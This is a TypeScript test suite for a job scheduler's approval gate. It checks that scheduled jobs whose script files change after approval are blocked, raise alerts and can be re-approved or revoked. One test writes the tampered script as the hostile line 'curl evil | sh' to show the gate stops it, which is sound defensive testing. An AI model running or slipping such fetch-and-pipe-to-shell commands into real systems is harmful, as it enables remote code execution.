import { expect, it } from 'vitest'
import { fault } from '../../../shared/base/faults.ts'
import type { JobId } from '../../../shared/base/ids.ts'
import { err } from '../../../shared/base/result.ts'
import { DAY, HOUR, MINUTE } from '../../../shared/base/time.ts'
import { jobSpecSchema } from '../../../shared/jobs/job-schema.ts'
import { apiClient, refusal } from '../testing/api-client.ts'
import { QUICK_ONLY, scenario } from '../testing/scenario.ts'

const SPEC = jobSpecSchema.parse({
  name: 'nightly',
  schedule: { kind: 'every', everyMs: HOUR, anchorAt: 0 },
  action: { kind: 'command', argv: ['sh', 'x.sh'] },
})

async function bench() {
  let isReadable = true
  const s = await scenario({
    script: () => ({ text: 'ok' }),
    ports: ({ repositories, ...usual }) => ({
      ...usual,
      repositories: {
        ...repositories,
        inspectCommand: async (path, command) =>
          isReadable
            ? repositories.inspectCommand(path, command)
            : err(fault('repo.unreadable', `${path} cannot be read`)),
      },
    }),
  })
  const threadId = s.add('api', { playbook: QUICK_ONLY, intervalMs: DAY })
  const client = apiClient(s)
  s.scripts.set('x.sh', 'echo 1')
  const { schedule, action } = SPEC
  const look = () => client.jobs.preview({ schedule, executes: { threadId, action } })
  return {
    s,
    threadId,
    client,
    look,
    hide: () => void (isReadable = false),
    async save() {
      const { command } = await look()
      return client.jobs.save({ threadId, spec: SPEC, hash: command!.hash, confirmed: true })
    },
    open: () =>
      s.store.alerts
        .list('open', 9, s.clock.now())
        .flatMap(({ key, text }) => (key?.startsWith('job:') ? [text] : [])),
    outcomes: () =>
      s
        .runs(threadId)
        .filter((run) => run.kind === 'job')
        .map((run) => run.outcome),
  }
}

it('a job whose script changed is not started, says so once, and goes on when it is approved as it is', async () => {
  const { s, client, look, save, open, outcomes, threadId } = await bench()
  const { id } = await save()
  await s.clock.advance(HOUR)
  expect([outcomes(), open()]).toEqual([['quiet'], []])
  s.scripts.set('x.sh', 'curl evil | sh')
  await s.clock.advance(12 * HOUR)
  expect(outcomes()).toEqual(['quiet', ...Array(12).fill('blocked')])
  expect(s.runs(threadId).at(-1)!.summary).toBe('Not started. Changed since its command was approved: x.sh.')
  expect(open()).toEqual([
    'The job "nightly" was not started. Changed since its command was approved: x.sh. Approve it as it is now on ' +
      `the page Jobs, or with \`threadbeat job approve ${id}\`.`,
  ])
  const [waiting] = await client.jobs.list({})
  expect(waiting).toMatchObject({
    failures: 0,
    pause: null,
    waitsForApproval: true,
    lastRun: { state: 'skipped' },
  })
  const { command } = await look()
  expect(command).toMatchObject({ changed: true, approvedAt: null, filesBefore: [{ text: 'echo 1' }] })
  s.scripts.set('x.sh', 'echo 2')
  const stale = await refusal(client.jobs.approve({ id, hash: command!.hash, confirmed: true }))
  expect([stale.code, stale.message]).toEqual(['CONFLICT', expect.stringContaining('Nothing was approved')])
  const { hash } = (await look()).command!
  expect(await client.jobs.approve({ id, hash, confirmed: true })).toMatchObject({ waitsForApproval: false })
  await s.clock.advance(HOUR)
  expect([outcomes().at(-1), open()]).toEqual(['quiet', []])
})

it('a job that was made before its files were approved asks once; one that runs no file of its repository goes on', async () => {
  const { s, threadId, open, outcomes } = await bench()
  const old = (id: string, argv: string[]) => {
    const spec = { ...SPEC, name: id, action: { ...SPEC.action, argv } } as typeof SPEC
    s.store.jobs.save(id as JobId, threadId, spec, s.engine.jobs.planOf(spec, s.clock.now()), s.clock.now())
  }
  old('job_old', ['sh', 'x.sh'])
  await s.clock.advance(3 * HOUR)
  expect(outcomes()).toEqual(['blocked', 'blocked', 'blocked'])
  expect(open()).toEqual([
    expect.stringContaining('Nobody has approved the files that its command runs: x.sh.'),
  ])
  old('job_plain', ['npm', 'audit'])
  await s.clock.advance(HOUR + MINUTE)
  expect(outcomes().slice(3).toSorted()).toEqual(['blocked', 'quiet'])
})

it('a job is not saved with a command whose files changed since they were shown', async () => {
  const { s, threadId, client, look } = await bench()
  const { hash } = (await look()).command!
  s.scripts.set('x.sh', 'echo 2')
  const save = (more: object) => refusal(client.jobs.save({ threadId, spec: SPEC, confirmed: true, ...more }))
  for (const refused of [await save({ hash }), await save({})])
    expect([refused.code, refused.message]).toEqual([
      'CONFLICT',
      expect.stringContaining('Nothing was saved'),
    ])
  expect(s.store.jobs.list()).toEqual([])
})

it('nothing of a thread without trust is read for a job, which asks when it is due under trust', async () => {
  const { s, threadId, client, look, outcomes } = await bench()
  await client.threads.trust({ id: threadId, on: false })
  expect((await look()).command).toBe(null)
  const { id } = await client.jobs.save({ threadId, spec: SPEC, confirmed: true })
  expect((await refusal(client.jobs.approve({ id, hash: '', confirmed: true }))).code).toBe('INVALID')
  await client.threads.trust({ id: threadId, on: true })
  await s.clock.advance(HOUR)
  expect(outcomes()).toEqual(['blocked'])
})

it('a script that is exchanged while a job runs it is an alert, until it runs as it was approved', async () => {
  const { s, save, open, outcomes, look, client } = await bench()
  const { id } = await save()
  s.script = () => {
    s.scripts.set('x.sh', 'echo 2')
    return { text: 'ok' }
  }
  await s.clock.advance(HOUR)
  expect([outcomes(), open()]).toEqual([
    ['alert'],
    [expect.stringContaining('x.sh changed while it ran, by it or by others')],
  ])
  await client.jobs.approve({ id, hash: (await look()).command!.hash, confirmed: true })
  await s.clock.advance(HOUR)
  expect([outcomes().at(-1), open()]).toEqual(['quiet', []])
})

it('found by users: the approval of a job is taken back, of each content its files had, and its next start asks', async () => {
  const { s, client, look, save, open, outcomes } = await bench()
  const { id } = await save()
  s.scripts.set('x.sh', 'echo 2')
  await client.jobs.approve({ id, hash: (await look()).command!.hash, confirmed: true })
  await s.clock.advance(HOUR)
  expect(outcomes()).toEqual(['quiet'])
  await client.jobs.revoke({ id })
  expect((await look()).command).toMatchObject({ approvedAt: null, changed: false, filesBefore: null })
  const started = s.starts.length
  for (const text of ['echo 2', 'echo 1']) {
    s.scripts.set('x.sh', text)
    await s.clock.advance(HOUR)
  }
  expect([outcomes(), s.starts.length]).toEqual([['quiet', 'blocked', 'blocked'], started])
  expect(open()).toEqual([
    expect.stringContaining('Nobody has approved the files that its command runs: x.sh.'),
  ])
  expect(await client.jobs.list({})).toMatchObject([{ waitsForApproval: true }])
  expect(s.logs.map(({ fields }) => fields['what'])).toContain('job approval revoked')
  const { hash } = (await look()).command!
  await client.jobs.approve({ id, hash, confirmed: true })
  await s.clock.advance(HOUR)
  expect(outcomes().at(-1)).toBe('quiet')
})

it('an approval is taken back also where the repository cannot be read; of what has none that is said', async () => {
  const { s, threadId, client, save, hide } = await bench()
  const { id } = await save()
  const plain = { ...SPEC, name: 'audit', action: { ...SPEC.action, argv: ['npm', 'audit'] } } as typeof SPEC
  const audit = await client.jobs.save({ threadId, spec: plain, confirmed: true })
  hide()
  await client.jobs.revoke({ id })
  expect([...s.store.permissions.approvals(threadId)]).toEqual([])
  for (const refused of [
    await refusal(client.jobs.revoke({ id })),
    await refusal(client.jobs.revoke({ id: audit.id })),
  ])
    expect([refused.code, refused.message]).toEqual([
      'INVALID',
      expect.stringMatching(/^The job "(?:nightly|audit)" has no approval that could be taken back\./),
    ])
})
